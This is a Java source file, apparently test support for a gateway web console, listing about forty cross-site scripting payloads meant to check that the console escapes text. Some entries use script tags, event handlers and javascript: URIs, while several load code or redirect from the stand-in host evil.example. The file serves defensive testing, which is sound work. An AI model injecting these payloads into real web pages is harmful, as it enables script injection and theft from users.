package io.feedbridge.gateway.web.console;

import java.util.List;

/**
 * Texts that would run a script, change a page or leave their place where a page shows them raw.
 */
final class HostileText {

  /** Stands in each of them. */
  static final String MARK = "pwn";

  static final List<String> ALL =
      List.of(
          "<script>pwn()</script>",
          "<ScRiPt>pwn()</sCrIpT>",
          "<script src=//evil.example/pwn.js></script>",
          "<script/src=data:,pwn()>",
          "<<script>pwn();//<</script>",
          "</title><script>pwn()</script>",
          "</textarea><script>pwn()</script>",
          "</style><script>pwn()</script>",
          "--><script>pwn()</script><!--",
          "]]><script>pwn()</script>",
          "<img src=x onerror=pwn()>",
          "<img src=x onerror=\"pwn()\">",
          "<img/src/onerror=pwn()>",
          "<svg onload=pwn()>",
          "<svg><script>pwn()</script></svg>",
          "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
          "<math><mi//xlink:href=\"javascript:pwn()\">",
          "<body onload=pwn()>",
          "<iframe src=javascript:pwn()></iframe>",
          "<iframe srcdoc=\"<script>parent.pwn()</script>\">",
          "<object data=javascript:pwn()>",
          "<embed src=javascript:pwn()>",
          "<form action=javascript:pwn()><button>pwn</button></form>",
          "<a href=javascript:pwn()>pwn</a>",
          "<base href=//evil.example/pwn/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/pwn\">",
          "<link rel=stylesheet href=//evil.example/pwn.css>",
          "<style>@import '//evil.example/pwn.css';</style>",
          "<details open ontoggle=pwn()>",
          "<input autofocus onfocus=pwn()>",
          "<video><source onerror=pwn()></video>",
          "<marquee onstart=pwn()>",
          "\" onmouseover=\"pwn()",
          "' onmouseover='pwn()",
          "\"><script>pwn()</script>",
          "'><img src=x onerror=pwn()>",
          "` onmouseover=`pwn()",
          "javascript:pwn()",
          "${pwn()}{{pwn()}}<%= pwn() %>#{pwn()}",
          "<div hx-get=//evil.example/pwn hx-trigger=load hx-on::load=pwn()>");

  private HostileText() {}
}
